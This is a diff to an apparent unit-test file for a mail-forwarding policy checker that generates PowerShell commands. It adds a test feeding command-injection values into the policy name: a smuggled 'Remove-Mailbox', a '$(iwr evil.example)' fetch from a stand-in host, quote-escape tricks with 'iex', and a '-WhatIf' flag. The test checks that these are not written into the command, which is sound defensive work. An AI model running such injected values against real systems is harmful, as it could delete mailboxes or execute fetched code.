@@ -113,6 +113,15 @@ describe("mail that forwards itself outside", () => {
     })
   })
 
+  it.each(['x"; Remove-Mailbox bob; "', "$(iwr evil.example)", "x`u{22}", "x”; iex y; “", "-WhatIf"])(
+    "writes no name into a command that a shell would run: %s",
+    (Name) => {
+      const spamPolicies = [{ ...DEFAULT_POLICY, Name, AutoForwardingMode: "On" }]
+
+      expect(forwarding({ spamPolicies })?.run).toContain('-Identity "NAME" -AutoForwardingMode Off')
+    },
+  )
+
   it("names for whom another policy allows it, and knows one that is for nobody", () => {
     const spamPolicies = [DEFAULT_POLICY, VIP]
     const scoped = ruleFor({ From: ["bob@contoso.com"], FromMemberOf: "Board, Sales" })
